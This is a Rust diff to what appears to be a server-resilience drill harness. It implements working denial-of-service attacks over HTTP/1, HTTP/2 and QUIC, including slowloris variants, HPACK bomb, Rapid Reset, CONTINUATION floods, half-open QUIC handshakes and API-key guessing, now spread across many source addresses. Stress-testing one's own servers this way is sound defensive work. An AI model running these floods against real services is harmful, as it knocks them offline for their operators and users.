@@ -1,11 +1,12 @@
 //! One attack of each kind, from its beginning to its end.
 
-use std::net::{IpAddr, SocketAddr};
+use std::net::SocketAddr;
 use std::sync::atomic::Ordering::Relaxed;
 use std::time::Duration;
 
 use anyhow::Result;
 use bytes::Bytes;
+use quinn::Endpoint;
 use tokio::io::AsyncWriteExt;
 use tokio::net::{TcpStream, UdpSocket};
 use tokio::time::{sleep, timeout};
@@ -13,10 +14,14 @@ use tokio_rustls::client::TlsStream;
 
 use super::ends::{Each, Once, answered, drips, ended, floods, reset, together};
 use super::frames::*;
-use super::{Attack, DRIP, World};
+use super::{Attack, DRIP, HOSTS, World, host};
 use crate::harness::http::{Ask, Session, Speaks};
 
 impl World {
+    fn endpoint(&self, number: u64) -> &Endpoint {
+        &self.endpoints[(number % HOSTS) as usize]
+    }
+
     pub(super) fn begun(&self, first: &mut bool) {
         if std::mem::take(first) {
             self.tally.begun.fetch_add(1, Relaxed);
@@ -29,27 +34,27 @@ impl World {
         let head = |method: &str, path: &str| format!("{method} {path} HTTP/1.1\r\nHost: {}\r\nX-API-Key: {key}\r\n", site.authority());
         match self.order.attack {
             Attack::SlowHandshake => {
-                let mut stream = site.tcp(None).await?;
+                let mut stream = site.tcp(Some(host(number))).await?;
                 // A record of a ClientHello that is on its way.
                 stream.write_all(&[0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03]).await?;
                 self.begun(first);
                 drips(stream, 0x5a).await
             }
             Attack::SlowHead(Speaks::Http1) => {
-                let mut stream = site.stream(&self.http1).await?;
+                let mut stream = site.stream_from(&self.http1, Some(host(number))).await?;
                 stream.write_all(format!("{}X-Slow: ", head("GET", "/drill/echo")).as_bytes()).await?;
                 self.begun(first);
                 drips(stream, b'a').await
             }
             Attack::SlowHead(Speaks::Http2) => {
-                let mut stream = self.http2().await?;
+                let mut stream = self.http2(number).await?;
                 // HEADERS without its end, of 16,000 bytes.
                 stream.write_all(&[0x00, 0x3e, 0x80, 0x01, 0x00, 0, 0, 0, 1, 0x82, 0x87]).await?;
                 self.begun(first);
                 drips(stream, 0x84).await
             }
             Attack::SlowHead(Speaks::Http3) => {
-                let (connection, mut stream) = self.http3().await?;
+                let (connection, mut stream) = self.http3(number).await?;
                 stream.write_all(&[0x01, 0x44, 0x00, 0x00, 0x00]).await?;
                 self.begun(first);
                 while stream.write_all(&[0xd1]).await.is_ok() {
@@ -59,14 +64,14 @@ impl World {
                 Ok(())
             }
             Attack::SlowBody(Speaks::Http1) => {
-                let mut stream = site.stream(&self.http1).await?;
+                let mut stream = site.stream_from(&self.http1, Some(host(number))).await?;
                 let head = format!("{}Content-Type: application/json\r\nContent-Length: 50000\r\n\r\n{{", head("POST", "/drill/echo"));
                 stream.write_all(head.as_bytes()).await?;
                 self.begun(first);
                 ended(stream).await
             }
             Attack::SlowBody(Speaks::Http2) => {
-                let mut stream = self.http2().await?;
+                let mut stream = self.http2(number).await?;
                 let fields = [self.fields(POST, "/drill/echo"), literal("content-type", "application/json")].concat();
                 stream.write_all(&frame(HEADERS, END_HEADERS, 1, &fields)).await?;
                 stream.write_all(&frame(DATA, 0, 1, b"{")).await?;
@@ -74,7 +79,7 @@ impl World {
                 answered(stream).await
             }
             Attack::SlowBody(Speaks::Http3) => {
-                let (connection, mut stream) = self.http3().await?;
+                let (connection, mut stream) = self.http3(number).await?;
                 let fields = [self.qpack("POST", "/drill/echo"), qpack_literal("content-type", "application/json")].concat();
                 stream.write_all(&h3_frame(0x01, &fields)).await?;
                 stream.write_all(&[0x00, 0x40, 0x64, b'{']).await?;
@@ -85,7 +90,7 @@ impl World {
                 Ok(())
             }
             Attack::SlowReader(Speaks::Http3) => {
-                let connection = site.quic(&self.endpoint, &self.http3).await?;
+                let connection = site.quic(self.endpoint(number), &self.http3).await?;
                 let (mut send, receive) = connection.open_bi().await?;
                 send.write_all(&h3_frame(0x01, &self.qpack("GET", "/drill/large?n=8388608"))).await?;
                 send.finish()?;
@@ -96,11 +101,11 @@ impl World {
             }
             Attack::SlowReader(speaks) => {
                 let stream = if speaks == Speaks::Http1 {
-                    let mut stream = site.stream(&self.http1).await?;
+                    let mut stream = site.stream_from(&self.http1, Some(host(number))).await?;
                     stream.write_all(format!("{}\r\n", head("GET", "/drill/large?n=8388608")).as_bytes()).await?;
                     stream
                 } else {
-                    let mut stream = self.http2().await?;
+                    let mut stream = self.http2(number).await?;
                     // Its windows are as large as they can be: only the socket is not read.
                     stream.write_all(&frame(SETTINGS, 0, 0, &[0, 4, 0x7f, 0xff, 0xff, 0xff])).await?;
                     stream.write_all(&frame(WINDOW_UPDATE, 0, 0, &0x7fff_0000_u32.to_be_bytes())).await?;
@@ -112,24 +117,24 @@ impl World {
             }
             Attack::Idle => match number % 3 {
                 0 => {
-                    let stream = site.stream(&self.http1).await?;
+                    let stream = site.stream_from(&self.http1, Some(host(number))).await?;
                     self.begun(first);
                     ended(stream).await
                 }
                 1 => {
-                    let stream = self.http2().await?;
+                    let stream = self.http2(number).await?;
                     self.begun(first);
                     ended(stream).await
                 }
                 _ => {
-                    let connection = site.quic(&self.endpoint, &self.http3).await?;
+                    let connection = site.quic(self.endpoint(number), &self.http3).await?;
                     self.begun(first);
                     connection.closed().await;
                     Ok(())
                 }
             },
             Attack::LongField(Speaks::Http1) => {
-                let mut stream = site.stream(&self.http1).await?;
+                let mut stream = site.stream_from(&self.http1, Some(host(number))).await?;
                 self.begun(first);
                 let bomb = format!("{}X-Long: {}\r\n\r\n", head("GET", "/drill/echo"), "a".repeat(1 << 20));
                 // It is ended while it still sends.
@@ -137,7 +142,7 @@ impl World {
                 ended(stream).await
             }
             Attack::LongField(Speaks::Http2) => {
-                let stream = self.http2().await?;
+                let stream = self.http2(number).await?;
                 self.begun(first);
                 let fields = [self.fields(GET, "/drill/echo"), literal("x-long", &"a".repeat(1 << 20))].concat();
                 let mut parts = fields.chunks(16_384).peekable();
@@ -151,7 +156,7 @@ impl World {
                 floods(stream, Once(frames)).await
             }
             Attack::LongField(Speaks::Http3) => {
-                let (connection, mut stream) = self.http3().await?;
+                let (connection, mut stream) = self.http3(number).await?;
                 self.begun(first);
                 let fields = [self.qpack("GET", "/drill/echo"), qpack_literal("x-long", &"a".repeat(1 << 20))].concat();
                 let _ = stream.write_all(&h3_frame(0x01, &fields)).await;
@@ -159,14 +164,14 @@ impl World {
                 Ok(())
             }
             Attack::ManyFields => {
-                let mut stream = site.stream(&self.http1).await?;
+                let mut stream = site.stream_from(&self.http1, Some(host(number))).await?;
                 self.begun(first);
                 let bomb = format!("{}{}\r\n", head("GET", "/drill/echo"), "a: b\r\n".repeat(100_000));
                 let _ = stream.write_all(bomb.as_bytes()).await;
                 ended(stream).await
             }
             Attack::HpackBomb => {
-                let stream = self.http2().await?;
+                let stream = self.http2(number).await?;
                 self.begun(first);
                 // Into the table: with incremental indexing, entry 62 from then on (RFC 7541 §2.3.3, §6.2.1).
                 let mut fields = self.fields(GET, "/drill/echo");
@@ -177,7 +182,7 @@ impl World {
                 floods(stream, Each { next: 1, make: move |stream| frame(HEADERS, END_HEADERS | END_STREAM, stream, &fields) }).await
             }
             Attack::RapidReset => {
-                let stream = self.http2().await?;
+                let stream = self.http2(number).await?;
                 self.begun(first);
                 let fields = self.fields(GET, "/drill/slow?n=1000");
                 let make = move |stream| {
@@ -187,7 +192,7 @@ impl World {
                 floods(stream, Each { next: 1, make }).await
             }
             Attack::Continuation => {
-                let mut stream = self.http2().await?;
+                let mut stream = self.http2(number).await?;
                 self.begun(first);
                 stream.write_all(&frame(HEADERS, 0, 1, &self.fields(GET, "/drill/echo"))).await?;
                 // Half of them with fields, half with nothing at all.
@@ -196,7 +201,7 @@ impl World {
                 floods(stream, Each { next: 1, make: move |_| frames.clone() }).await
             }
             Attack::EmptyFrames => {
-                let mut stream = self.http2().await?;
+                let mut stream = self.http2(number).await?;
                 self.begun(first);
                 let frames = match number % 3 {
                     0 => {
@@ -210,7 +215,7 @@ impl World {
                 floods(stream, Each { next: 1, make: move |_| frames.clone() }).await
             }
             Attack::Announce => {
-                let connection = site.quic(&self.endpoint, &self.http3).await?;
+                let connection = site.quic(self.endpoint(number), &self.http3).await?;
                 control(&connection).await?;
                 self.begun(first);
                 let one = async |number: u64| -> Result<()> {
@@ -235,9 +240,10 @@ impl World {
             }
             Attack::HalfOpen => {
                 // A handshake is begun with a socket of our own, and its first packets are sent on from ever new ports.
-                let connecting = self.endpoint.connect_with(crate::harness::site::quic_config(&self.http3), self.trapped, &site.name)?;
+                let connecting =
+                    self.endpoint(number).connect_with(crate::harness::site::quic_config(&self.http3), self.trapped, &site.name)?;
                 let mut packet = [0; 2048];
-                let from = SocketAddr::new(loopback(20 + number % 200), 0);
+                let from = SocketAddr::new(host(number), 0);
                 let socket = UdpSocket::bind(from).await?;
                 for _ in 0..2 {
                     if let Ok(got) = timeout(Duration::from_millis(200), self.trap.recv(&mut packet)).await {
@@ -255,7 +261,7 @@ impl World {
     /// Key after key on one connection from an address of its own.
     async fn guess(&self, number: u64, first: &mut bool) -> Result<()> {
         let site = &self.order.site;
-        let stream = site.stream_from(&self.http2, Some(loopback(20 + number % 64))).await?;
+        let stream = site.stream_from(&self.http2, Some(host(number))).await?;
         let mut session = Session::http2(site, stream).await?;
         self.begun(first);
         for guess in 0..u64::MAX {
@@ -272,16 +278,16 @@ impl World {
     }
 
     /// An HTTP/2 connection that has been greeted.
-    async fn http2(&self) -> Result<TlsStream<TcpStream>> {
-        let mut stream = self.order.site.stream(&self.http2).await?;
+    async fn http2(&self, number: u64) -> Result<TlsStream<TcpStream>> {
+        let mut stream = self.order.site.stream_from(&self.http2, Some(host(number))).await?;
         stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
         stream.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
         Ok(stream)
     }
 
     /// An HTTP/3 connection that has been greeted, and the sending half of a request's stream.
-    async fn http3(&self) -> Result<(quinn::Connection, quinn::SendStream)> {
-        let connection = self.order.site.quic(&self.endpoint, &self.http3).await?;
+    async fn http3(&self, number: u64) -> Result<(quinn::Connection, quinn::SendStream)> {
+        let connection = self.order.site.quic(self.endpoint(number), &self.http3).await?;
         control(&connection).await?;
         let (send, mut receive) = connection.open_bi().await?;
         tokio::spawn(async move { while let Ok(Some(_)) = receive.read_chunk(64 * 1024, true).await {} });
@@ -320,8 +326,4 @@ async fn control(connection: &quinn::Connection) -> Result<()> {
         drop(control);
     });
     Ok(())
-}
-
-fn loopback(last: u64) -> IpAddr {
-    IpAddr::from([127, 0, (last / 250) as u8, (last % 250) as u8 + 1])
 }
